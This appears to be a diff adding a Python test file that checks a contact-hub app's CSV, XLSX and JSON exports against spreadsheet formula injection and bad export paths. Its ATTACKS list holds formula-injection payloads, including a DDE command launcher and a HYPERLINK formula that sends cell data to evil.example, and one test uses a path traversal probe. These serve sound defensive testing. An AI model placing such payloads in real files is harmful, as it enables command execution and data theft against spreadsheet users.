@@ -1,0 +1,129 @@
+"""Tables as files: the same figures, and nothing in them that a spreadsheet would carry out."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from typing import Any
+from xml.etree import ElementTree
+
+import httpx
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from contact_hub.managers.exports import as_csv, as_json, as_xlsx, harmless
+from contact_hub.managers.tables import FEW, Cell, Column, Figure, Table
+from contact_hub.staff.models import Role
+from tests.hub.line import Line
+from tests.hub.test_staff import browser, browsers, hire, sign_in
+
+__all__ = ["browser", "browsers"]
+
+ATTACKS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1-1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=HYPERLINK(1)",
+    "  =1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1",
+    '=HYPERLINK("https://evil.example?x="&A1,"ok")',
+    "\x00=1+1",
+)
+WORDS = st.one_of(st.sampled_from(ATTACKS), st.text(max_size=20))
+
+
+def table(*cells: Cell) -> Table:
+    return Table("bot", "The bot: [all]", [Column("Topic")], [[cell] for cell in cells])
+
+
+def read_csv(made: bytes) -> list[list[str]]:
+    assert made.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))
+
+
+def sheet_of(made: bytes) -> Any:
+    with zipfile.ZipFile(io.BytesIO(made)) as book:
+        assert not any("external" in name or "macro" in name.lower() for name in book.namelist())
+        return ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
+
+
+@given(WORDS)
+def test_no_text_begins_like_a_formula(words: str) -> None:
+    safe = harmless(words)
+    assert safe.lstrip(" \ufeff")[:1] not in tuple("=+-@\t\r\n＝＋－＠")
+    assert safe.lstrip("'").replace("\x00", "") == words.replace("\x00", "").lstrip("'")
+    assert harmless(safe) == safe, "what was made safe stays as it is"
+
+
+@given(st.lists(WORDS, max_size=5))
+def test_a_csv_holds_every_cell_in_its_place(words: list[str]) -> None:
+    rows = read_csv(as_csv(table(*words), "2026"))
+    assert rows[0] == ["Topic"]
+    if all(words):  # a line with one empty cell is an empty line
+        assert [row[0] for row in rows[1:]] == [harmless(word) for word in words]
+
+
+@given(st.lists(WORDS, min_size=1, max_size=5))
+def test_a_spreadsheet_holds_no_formula_and_no_link(words: list[str]) -> None:
+    root = sheet_of(as_xlsx(table(*words, "https://evil.example"), "2026"))
+    tags = {element.tag.rpartition("}")[2] for element in root.iter()}
+    assert not tags & {"f", "hyperlink", "hyperlinks"}
+
+
+def test_plain_words_and_numbers_stay_as_they_are() -> None:
+    for words in ("Waste and Recycling", "'quoted'", "2026-11-02", "not known", "a=b", ""):
+        assert harmless(words) == words
+    made = table(-3, 0.25, None, FEW, Figure(-1.5, "score"), 'say "no", please')
+    assert read_csv(as_csv(made, "2026"))[1:] == [
+        ["-3"],
+        ["0.25"],
+        [""],
+        ["hidden"],
+        ["-1.5"],
+        ['say "no", please'],
+    ]
+    said = json.loads(as_json(made, "2026-11-01 to 2026-11-28"))
+    assert said["rows"] == [[-3], [0.25], [None], ["hidden"], [-1.5], ['say "no", please']]
+    assert b"\r\n" in as_csv(made, "2026")
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx", "json"])
+async def test_every_table_of_the_page_can_be_taken_along(
+    line: Line, browser: httpx.AsyncClient, kind: str
+) -> None:
+    await hire(line, "Nora Ek", Role.MANAGER)
+    await sign_in(browser, "Nora Ek")
+
+    links = re.findall(
+        rf'href="(/managers/export/[a-z]+\.{kind}\?[^"]+)"', (await browser.get("/managers")).text
+    )
+    assert len(links) == 11
+    for link in links:
+        answer = await browser.get(link.replace("&amp;", "&"))
+        assert answer.status_code == 200, link
+        assert re.fullmatch(
+            rf'attachment; filename="civicline-[a-z]+-[\d-]+\.{kind}"', answer.headers["content-disposition"]
+        )
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert answer.headers["cache-control"] == "no-store"
+    assert await line.count("audit", "action = 'figures.exported'") == len(links)
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["nothing.csv", "bot.exe", "bot.csv?by=everything", 'bot".csv', "..%2f..%2fetc.csv", "bot.csv?by=all"],
+)
+async def test_what_is_no_table_is_not_there(line: Line, browser: httpx.AsyncClient, path: str) -> None:
+    await hire(line, "Nora Ek", Role.MANAGER)
+    await sign_in(browser, "Nora Ek")
+    assert (await browser.get(f"/managers/export/{path}")).status_code == 404
